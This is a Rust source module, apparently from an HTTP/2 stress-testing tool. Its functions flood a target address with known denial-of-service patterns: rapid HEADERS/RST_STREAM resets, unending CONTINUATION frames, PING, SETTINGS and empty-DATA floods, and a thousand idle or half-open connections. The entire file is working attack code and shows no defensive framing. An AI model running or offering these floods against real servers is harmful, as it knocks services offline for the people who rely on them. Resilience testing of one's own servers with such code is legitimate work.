//! Much of what costs nothing to send.

use std::net::SocketAddr;

use anyhow::Result;

use super::{METHOD, stream};
use crate::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, call, field, frame, hello,
};
use crate::peer::Peer;

/// Frames that are written at once.
const BATCH: u32 = 100;
const CONNECTIONS: usize = 1_000;
/// The error code `CANCEL`.
const CANCEL: [u8; 4] = [0, 0, 0, 8];

pub(super) async fn rapid_reset(address: SocketAddr) -> Result<()> {
    let mut peer = greeted(address).await?;
    let headers = call(METHOD, &[]);
    peer.flood(|n| {
        let calls = (n * BATCH..(n + 1) * BATCH).map(stream);
        calls
            .flat_map(|stream| {
                let call = frame(HEADERS, END_HEADERS | END_STREAM, stream, &headers);
                [call, frame(RST_STREAM, 0, stream, &CANCEL)].concat()
            })
            .collect()
    })
    .await;
    Ok(())
}

pub(super) async fn continuation(address: SocketAddr) -> Result<()> {
    let mut peer = greeted(address).await?;
    peer.send(&frame(HEADERS, END_STREAM, stream(0), &call(METHOD, &[]))).await;
    let more = frame(CONTINUATION, 0, stream(0), &field(0x00, "more", &"x".repeat(1_000)));
    peer.flood(|_| more.clone()).await;
    Ok(())
}

pub(super) async fn ping(address: SocketAddr) -> Result<()> {
    repeated(address, &frame(PING, 0, 0, &[0; 8])).await
}

pub(super) async fn settings(address: SocketAddr) -> Result<()> {
    repeated(address, &frame(SETTINGS, 0, 0, &[])).await
}

pub(super) async fn empty_data(address: SocketAddr) -> Result<()> {
    let mut peer = greeted(address).await?;
    peer.send(&frame(HEADERS, END_HEADERS, stream(0), &call(METHOD, &[]))).await;
    let batch = frame(DATA, 0, stream(0), &[]).repeat(BATCH as usize);
    peer.flood(|_| batch.clone()).await;
    Ok(())
}

/// Half of them send nothing at all, the others the first bytes of the preface.
pub(super) async fn connections(address: SocketAddr) -> Result<()> {
    let mut peers = Vec::new();
    for n in 0..CONNECTIONS {
        let mut peer = Peer::connect(address).await?;
        if n % 2 == 0 {
            peer.send(b"PRI * HTTP/2.0").await;
        }
        peers.push(peer);
    }
    for peer in &mut peers {
        peer.closed().await;
    }
    Ok(())
}

async fn repeated(address: SocketAddr, frame: &[u8]) -> Result<()> {
    let mut peer = greeted(address).await?;
    let batch = frame.repeat(BATCH as usize);
    peer.flood(|_| batch.clone()).await;
    Ok(())
}

async fn greeted(address: SocketAddr) -> Result<Peer> {
    let mut peer = Peer::connect(address).await?;
    peer.send(&hello(&[])).await;
    Ok(peer)
}
